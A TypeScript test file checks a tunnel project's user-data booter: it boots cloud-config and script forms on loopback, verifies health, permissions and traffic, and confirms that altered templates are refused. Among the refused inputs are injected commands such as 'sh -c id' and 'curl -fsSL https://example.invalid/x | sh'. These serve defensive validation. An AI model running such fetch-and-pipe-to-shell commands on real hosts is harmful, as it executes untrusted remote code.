/**
 * The shared booter runs rendered user-data for real: the embedded engine answers on its own
 * loopback address and carries traffic; anything outside what our templates write fails loudly.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { bootUserData, readBootRecord, stopBootedNodeAndWait } from '../../src/boot/boot-user-data.js';
import { isBootedProcessAlive } from '../../src/boot/booted-process.js';
import { renderUserData, userDataText, type RenderInput } from '../../src/core/user-data/render.js';
import { generateSelfSigned } from '../../src/engine/tls/self-signed.js';
import { requestControl } from '../../src/engine/transport/control-request.js';
import { echoServer, eventually, freePortOn, roundTrip, startClient, stopChild, testLoopbackAddress } from './boot-helpers.js';

const cleanups: (() => Promise<unknown> | unknown)[] = [];
afterEach(async () => {
  for (const fn of cleanups.splice(0).reverse()) await fn();
});

function tempRoot(): string {
  const dir = mkdtempSync(join(tmpdir(), 'inlets-boot-'));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

async function rendered(format: RenderInput['format'], binary: boolean) {
  const address = testLoopbackAddress();
  const controlPort = await freePortOn(address);
  const tls = generateSelfSigned({ commonName: 'boot-test' });
  const token = randomBytes(32).toString('hex');
  const userData = renderUserData({ mode: 'tcp', token, tls, controlPort, format, binary });
  return { address, controlPort, tls, token, userData };
}

async function boot(userData: Buffer, address: string, rootDir = tempRoot()) {
  const node = await bootUserData(userData, { address, rootDir });
  cleanups.push(() => stopBootedNodeAndWait(node));
  return node;
}

describe('bootUserData', () => {
  it('boots gzip cloud-config: the embedded engine answers, keeps the token off its command line, and carries traffic', async () => {
    const { address, controlPort, tls, token, userData } = await rendered('cloud-config', true);
    const node = await boot(userData, address);
    expect(node.controlUrl).toBe(`wss://${address}:${controlPort}`);
    expect(node.format).toBe('cloud-config');

    const health = await eventually(() => requestControl({ url: node.controlUrl, path: '/healthz', trust: { pin: tls.pin }, timeoutMs: 3000 }));
    expect(health.status).toBe(200);
    const status = await requestControl({ url: node.controlUrl, path: '/status', token, trust: { pin: tls.pin }, timeoutMs: 5000 });
    expect(status.status).toBe(200);
    expect(JSON.parse(status.body).mode).toBe('tcp');
    expect(readFileSync(node.logFile, 'utf8')).toContain(`TLS public key pin: ${tls.pin}`);

    // The exact embedded bundle runs, with the token only in its environment.
    const cmdline = readFileSync(`/proc/${node.pid}/cmdline`, 'utf8').split('\0');
    expect(cmdline[1]).toBe(join(node.rootDir, 'usr/local/lib/inlets/inlets.mjs'));
    expect(cmdline.join(' ')).not.toContain(token);
    expect(cmdline).toEqual(expect.arrayContaining(['--control-addr', address, '--data-addr', address]));
    expect(statSync(join(node.rootDir, 'etc/default/inlets')).mode & 0o777).toBe(0o600);
    expect(statSync(join(node.rootDir, 'etc/inlets/tls/server.key')).mode & 0o777).toBe(0o600);

    const echo = await echoServer();
    cleanups.push(echo.close);
    const dataPort = await freePortOn(address);
    const client = startClient({ url: node.controlUrl, token, pin: tls.pin, dataPort, upstreamPort: echo.port });
    cleanups.push(() => stopChild(client));
    const payload = randomBytes(64 * 1024);
    const back = await eventually(() => roundTrip(address, dataPort, payload), 30_000, 250).catch((err) => {
      throw new Error(`${err.message}\nclient output:\n${client.output()}`);
    });
    expect(back.equals(payload)).toBe(true);

    await stopBootedNodeAndWait(node);
    expect(isBootedProcessAlive(readBootRecord(node.rootDir)!)).toBe(false);
  });

  it('boots the boot-script form the same way', async () => {
    const { address, tls, token, userData } = await rendered('script', false);
    const node = await boot(userData, address);
    expect(node.format).toBe('script');
    const status = await eventually(() => requestControl({ url: node.controlUrl, path: '/status', token, trust: { pin: tls.pin }, timeoutMs: 3000 }));
    expect(status.status).toBe(200);
  });

  it('refuses to boot a second node in a directory whose node still runs', async () => {
    const { address, userData } = await rendered('cloud-config', true);
    const rootDir = tempRoot();
    await boot(userData, address, rootDir);
    await expect(bootUserData(userData, { address, rootDir })).rejects.toMatchObject({ code: 'BOOT_FAILED' });
  });

  it('refuses an address off the loopback network', async () => {
    const { userData } = await rendered('cloud-config', true);
    await expect(bootUserData(userData, { address: '0.0.0.0', rootDir: tempRoot() })).rejects.toMatchObject({ code: 'BOOT_ADDRESS_INVALID' });
  });
});

describe('bootUserData fails loudly on what our templates never write', () => {
  /** Renders, applies `edit` to the text, and expects USERDATA_UNSUPPORTED naming `mention`, with nothing started. */
  async function expectRefused(format: RenderInput['format'], edit: (text: string) => string, mention: RegExp) {
    const { address, userData } = await rendered(format, false);
    const changed = edit(userDataText(userData));
    expect(changed).not.toBe(userDataText(userData));
    const rootDir = join(tempRoot(), 'node');
    const error = await bootUserData(Buffer.from(changed), { address, rootDir }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'USERDATA_UNSUPPORTED' });
    expect((error as Error).message).toMatch(mention);
    expect(existsSync(rootDir)).toBe(false);
  }

  it('an unknown cloud-config key', () =>
    expectRefused('cloud-config', (t) => t.replace('packages:', 'bootcmd:\n  - ["touch", "/x"]\npackages:'), /unknown key "bootcmd"/));

  it('an unknown write_files key', () => expectRefused('cloud-config', (t) => t.replace('    owner: "root:root"\n', '    owner: "root:root"\n    defer: true\n'), /unknown key "defer"/));

  it('a YAML construct outside the subset (a plain scalar)', () => expectRefused('cloud-config', (t) => t.replace('- "nodejs"', '- nodejs').replace('["nodejs"]', '[nodejs]'), /line \d+/));

  it('a package it cannot stand in for', () => expectRefused('cloud-config', (t) => t.replace('["nodejs"]', '["nodejs", "nginx"]'), /package "nginx"/));

  it('a command other than the systemctl ones', () => expectRefused('cloud-config', (t) => t.replace('  - ["systemctl", "daemon-reload"]', '  - ["sh", "-c", "id"]'), /command "sh -c id"/));

  it('a unit directive it does not know', () => expectRefused('cloud-config', (t) => t.replace('Restart=always', 'Restart=always\n      ExecStartPre=/bin/true'), /ExecStartPre/));

  it('an ExecStart that does not run node', () => expectRefused('cloud-config', (t) => t.replace('ExecStart=/usr/bin/node', 'ExecStart=/usr/bin/python3'), /ExecStart runs \/usr\/bin\/python3/));

  it('an unknown statement in the boot script', () => expectRefused('script', (t) => t.replace('systemctl daemon-reload', 'curl -fsSL https://example.invalid/x | sh'), /not a plain command/));

  it('a changed put_file function in the boot script', () => expectRefused('script', (t) => t.replace('  chown -- "$2" "$tmp"', '  chown -R -- "$2" "$tmp"'), /put_file is not the function/));
});
